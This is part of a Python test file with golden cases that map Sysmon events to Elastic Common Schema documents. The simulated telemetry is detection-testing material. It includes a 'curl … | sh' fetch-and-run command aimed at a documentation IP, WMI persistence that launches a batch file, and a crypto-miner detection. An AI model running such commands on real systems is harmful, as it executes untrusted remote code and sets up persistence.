                           "action": "RegistryEvent (Key and Value Rename)"},
         process={"entity_id": _G1, "pid": 2980, "executable": "C:\\Windows\\regedit.exe",
                  "name": "regedit.exe"},
         registry={"path": "HKLM\\System\\CurrentControlSet\\Services\\UpdSvc", "hive": "HKLM",
                   "key": "System\\CurrentControlSet\\Services\\UpdSvc"},
         user={"domain": "CORP", "name": "admin"}, related={"user": ["admin"]})

    ads = "C:\\Users\\bob\\Downloads\\invoice.zip:Zone.Identifier"
    e = _win(15, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _G2, "ProcessId": "7740",
        "Image": _FIREFOX, "TargetFilename": ads, "CreationUtcTime": "2024-05-06 07:08:05.331",
        "Hash": "SHA256=6A09E667F3BCC908B2FB1366EA957D3E3ADEC17512775099DA2F590B0667322A,"
                "IMPHASH=00000000000000000000000000000000",
        "Contents": "[ZoneTransfer]  ZoneId=3  HostUrl=https://files.example.net/invoice.zip  ",
        "User": "CORP\\bob"}, version=2)
    sha = "6a09e667f3bcc908b2fb1366ea957d3e3adec17512775099da2f590b0667322a"
    case("15-windows", e, {"category": ["file"], "type": ["access"],
                           "action": "FileCreateStreamHash"},
         process={"entity_id": _G2, "pid": 7740, "executable": _FIREFOX, "name": "firefox.exe"},
         file={"path": ads, "name": "invoice.zip:Zone.Identifier",
               "directory": "C:\\Users\\bob\\Downloads", "extension": "identifier",
               "hash": {"sha256": sha}},  # the all-zero IMPHASH is "none"
         user={"domain": "CORP", "name": "bob"},
         related={"hash": [sha], "user": ["bob"]})

    conf = {"category": ["configuration"], "type": ["change"],
            "action": "ServiceConfigurationChange"}
    case("16-windows", _win(16, {
        "UtcTime": _UT, "Configuration": "C:\\Windows\\sysmon-config.xml",
        "ConfigurationFileHash": "SHA256=BB67AE8584CAA73B3C8D4A2F5E6A1B9C0D7E3F2A4B6C8D0E1F3A5B7C9D1E3F50"},
        version=3), conf)
    case("16-linux", _linux(16, {
        "UtcTime": _UT, "Configuration": "/opt/sysmon/config.xml",
        "ConfigurationFileHash": "SHA256=3C6EF372FE94F82BA54FF53A5F1D36F1510E527FADE682D19B05688C2B3E6C1F"},
        version=3), conf)

    e = _win(17, {
        "RuleName": "-", "EventType": "CreatePipe", "UtcTime": _UT, "ProcessGuid": _G1,
        "ProcessId": "3344", "PipeName": "\\PSHost.133591840891234567.3344.DefaultAppDomain.powershell",
        "Image": _PS, "User": "CORP\\bob"}, version=1)
    case("17-windows", e, {"category": ["file"], "type": ["creation"],
                           "action": "PipeEvent (Pipe Created)"},
         process={"entity_id": _G1, "pid": 3344, "executable": _PS, "name": "powershell.exe"},
         file={"name": "\\PSHost.133591840891234567.3344.DefaultAppDomain.powershell"}, **_BOB)

    e = _win(18, {
        "RuleName": "-", "EventType": "ConnectPipe", "UtcTime": _UT, "ProcessGuid": _G1,
        "ProcessId": "4720", "PipeName": "\\lsarpc",
        "Image": "C:\\Windows\\System32\\rundll32.exe", "User": "NT AUTHORITY\\SYSTEM"},
        version=1)
    case("18-windows", e, {"category": ["file"], "type": ["access"],
                           "action": "PipeEvent (Pipe Connected)"},
         process={"entity_id": _G1, "pid": 4720,
                  "executable": "C:\\Windows\\System32\\rundll32.exe", "name": "rundll32.exe"},
         file={"name": "\\lsarpc"},
         user={"domain": "NT AUTHORITY", "name": "SYSTEM"}, related={"user": ["SYSTEM"]})

    admin = {"user": {"domain": "CORP", "name": "admin"}, "related": {"user": ["admin"]}}
    case("19-windows", _win(19, {
        "RuleName": "-", "EventType": "WmiFilterEvent", "UtcTime": _UT, "Operation": "Created",
        "User": "CORP\\admin", "EventNamespace": '"root\\\\cimv2"', "Name": '"SysUpdFilter"',
        "Query": '"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance '
                 "ISA 'Win32_PerfFormattedData_PerfOS_System'\""}, version=3),
        {"category": ["process"], "type": ["info"],
         "action": "WmiEvent (WmiEventFilter activity detected)"}, **admin)
    # Elastic's pipeline renames Destination to process.executable; for a WMI consumer it is
    # the consumer's command line or script, not an executable, so it stays in winlog only
    case("20-windows", _win(20, {
        "RuleName": "-", "EventType": "WmiConsumerEvent", "UtcTime": _UT, "Operation": "Created",
        "User": "CORP\\admin", "Name": '"SysUpdConsumer"', "Type": "Command Line",
        "Destination": '"C:\\\\Windows\\\\System32\\\\cmd.exe /c C:\\\\ProgramData\\\\upd.bat"'},
        version=3),
        {"category": ["process"], "type": ["change"],
         "action": "WmiEvent (WmiEventConsumer activity detected)"}, **admin)
    case("21-windows", _win(21, {
        "RuleName": "-", "EventType": "WmiBindingEvent", "UtcTime": _UT, "Operation": "Created",
        "User": "CORP\\admin",
        "Consumer": '"CommandLineEventConsumer.Name=\\"SysUpdConsumer\\""',
        "Filter": '"__EventFilter.Name=\\"SysUpdFilter\\""'}, version=3),
        {"category": ["process"], "type": ["access"],
         "action": "WmiEvent (WmiEventConsumerToFilter activity detected)"}, **admin)

    e = _win(23, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _G1, "ProcessId": "5208",
        "User": "CORP\\bob", "Image": "C:\\Windows\\explorer.exe",
        "TargetFilename": "C:\\Users\\bob\\Desktop\\Report.DOCX",
        "Hashes": "SHA1=B1C2D3E4F5A6B7C8D9E0F1A2B3C4D5E6F7A8B9C0,"
                  "MD5=C1D2E3F4A5B6C7D8E9F0A1B2C3D4E5F6,"
                  "SHA256=D1E2F3A4B5C6D7E8F9A0B1C2D3E4F5A6B7C8D9E0F1A2B3C4D5E6F7A8B9C0D1E2,"
                  "IMPHASH=00000000000000000000000000000000",
        "IsExecutable": "false", "Archived": "true"})
    case("23-windows", e, {"category": ["file"], "type": ["deletion"],
                           "action": "FileDelete (File Delete archived)"},
         process={"entity_id": _G1, "pid": 5208, "executable": "C:\\Windows\\explorer.exe",
                  "name": "explorer.exe"},
         file={"path": "C:\\Users\\bob\\Desktop\\Report.DOCX", "name": "Report.DOCX",
               "directory": "C:\\Users\\bob\\Desktop", "extension": "docx",
               "hash": {"sha1": "b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0",
                        "md5": "c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6",
                        "sha256": "d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6"
                                  "b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2"}},
         user={"domain": "CORP", "name": "bob"},
         related={"hash": ["b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0",
                           "c1d2e3f4a5b6c7d8e9f0a1b2c3d4e5f6",
                           "d1e2f3a4b5c6d7e8f9a0b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9c0d1e2"],
                  "user": ["bob"]})

    chrome = "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"
    e = _win(27, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _G2, "ProcessId": "6140",
        "User": "CORP\\bob", "Image": chrome,
        "TargetFilename": "C:\\Users\\bob\\Downloads\\setup_x64.exe",
        "Hashes": "MD5=0F1E2D3C4B5A69788796A5B4C3D2E1F0,IMPHASH=A1B2C3D4E5F60718293A4B5C6D7E8F90"})
    # Elastic's table: a blocked executable is a creation that failed
    case("27-windows", e, {"category": ["file"], "type": ["creation"],
                           "action": "FileBlockExecutable", "outcome": "failure"},
         process={"entity_id": _G2, "pid": 6140, "executable": chrome, "name": "chrome.exe"},
         file={"path": "C:\\Users\\bob\\Downloads\\setup_x64.exe", "name": "setup_x64.exe",
               "directory": "C:\\Users\\bob\\Downloads", "extension": "exe",
               "hash": {"md5": "0f1e2d3c4b5a69788796a5b4c3d2e1f0"},
               "pe": {"imphash": "a1b2c3d4e5f60718293a4b5c6d7e8f90"}},
         user={"domain": "CORP", "name": "bob"},
         related={"hash": ["0f1e2d3c4b5a69788796a5b4c3d2e1f0",
                           "a1b2c3d4e5f60718293a4b5c6d7e8f90"], "user": ["bob"]})

    # Sysmon for Linux's eBPF event and SysmonX's own events: process.* and user.* where they
    # have those fields, their other fields in winlog.event_data only
    root = {"user": {"name": "root"}, "related": {"user": ["root"]}}
    alice = {"user": {"name": "alice"}, "related": {"user": ["alice"]}}
    case("100-linux", _linux(100, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _LG, "ProcessId": "2210",
        "Image": "/usr/sbin/bpftool", "User": "root", "BpfCommand": "BPF_PROG_LOAD",
        "BpfProgramType": "BPF_PROG_TYPE_TRACEPOINT", "BpfProgramId": "87",
        "BpfProgramName": "trace_execve"}, version=1),
        {"category": ["process"], "type": ["change"], "action": "eBPF program loaded"},
        process={"entity_id": _LG, "pid": 2210, "executable": "/usr/sbin/bpftool",
                 "name": "bpftool"}, **root)
    case("200-linux", _linux(200, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _LG, "ProcessId": "4411",
        "Image": "/tmp/.cache/kworker", "Scanner": "yara", "Finding": "Linux_Miner_Generic",
        "Details": "3 strings of the rule in the process image", "TriggerEventId": "1"},
        version=1), {},
        process={"entity_id": _LG, "pid": 4411, "executable": "/tmp/.cache/kworker",
                 "name": "kworker"})
    case("201-linux", _linux(201, {
        "RuleName": "-", "UtcTime": _UT, "Technique": "sensor_signal",
        "Details": "SIGSTOP from pid 6612 (/usr/bin/kill) uid 0", "ProcessGuid": _LG,
        "ProcessId": "6612", "Image": "/usr/bin/kill", "Source": "live"}, version=1, level=3),
        {}, level="warning",
        process={"entity_id": _LG, "pid": 6612, "executable": "/usr/bin/kill", "name": "kill"})
    case("202-windows", _win(202, {
        "RuleName": "-", "UtcTime": _UT, "Sequence": "12", "SecondsSincePrevious": "300",
        "EventsWritten": "18234", "EventsLost": "0", "Backend": "etw",
        "ConfigurationFileHash": "SHA256=510E527FADE682D19B05688C2B3E6C1F3C6EF372FE94F82BA54FF53A5F1D36F1"},
        version=1), {})
    case("210-linux", _linux(210, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _LG, "ProcessId": "9031",
        "Image": "/usr/bin/bash", "User": "alice", "Tty": "/dev/pts/1",
        "Command": "curl -s http://203.0.113.7/x.sh | sh"}, version=1), {},
        process={"entity_id": _LG, "pid": 9031, "executable": "/usr/bin/bash", "name": "bash"},
        **alice)
    case("211-linux", _linux(211, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _LG, "ProcessId": "9120",
        "Image": "/usr/bin/sudo", "User": "alice", "Syscall": "setresuid", "ChangeType": "User",
        "PreviousValue": "1000/1000/1000", "NewValue": "0/0/0"}, version=1), {},
        process={"entity_id": _LG, "pid": 9120, "executable": "/usr/bin/sudo", "name": "sudo"},
        **alice)
    case("212-linux", _linux(212, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _LG, "ProcessId": "9204",
        "Image": "/usr/bin/python3.11", "User": "alice", "Name": "x",
        "Flags": "MFD_CLOEXEC"}, version=1), {},
        process={"entity_id": _LG, "pid": 9204, "executable": "/usr/bin/python3.11",
                 "name": "python3.11"}, **alice)
    case("213-linux", _linux(213, {
        "RuleName": "-", "UtcTime": _UT, "ProcessGuid": _LG, "ProcessId": "9204",
        "Image": "/usr/bin/python3.11", "User": "alice", "Syscall": "mprotect",
        "Address": "0x7f3a2c000000", "Length": "4096", "Protection": "rwx",
        "PreviousProtection": "rw-"}, version=1), {},
        process={"entity_id": _LG, "pid": 9204, "executable": "/usr/bin/python3.11",
                 "name": "python3.11"}, **alice)
    case("220-windows", _win(220, {
        "RuleName": "-", "UtcTime": _UT, "ScriptBlockId": "{3f2b9c1e-8d4a-4e6b-9c1f-2a3b4c5d6e7f}",
        "Path": "C:\\Users\\bob\\Documents\\get-info.ps1", "ProcessId": "3344",
        "UserSid": "S-1-5-21-1004336348-1177238915-682003330-1104", "MessageTotal": "1",
        "Suspicious": "false", "FirstRecordID": "5120", "LastRecordID": "5120",
        "ScriptBlockText": "Get-Process | Select-Object -First 5"}, version=1), {},
        process={"pid": 3344})
    return cases


@pytest.mark.parametrize("e, expected", _golden_cases())
def test_golden_document_per_event_type(e, expected):
    doc = event_to_ecs(e)
    assert doc == expected
    assert check_document(doc) == []
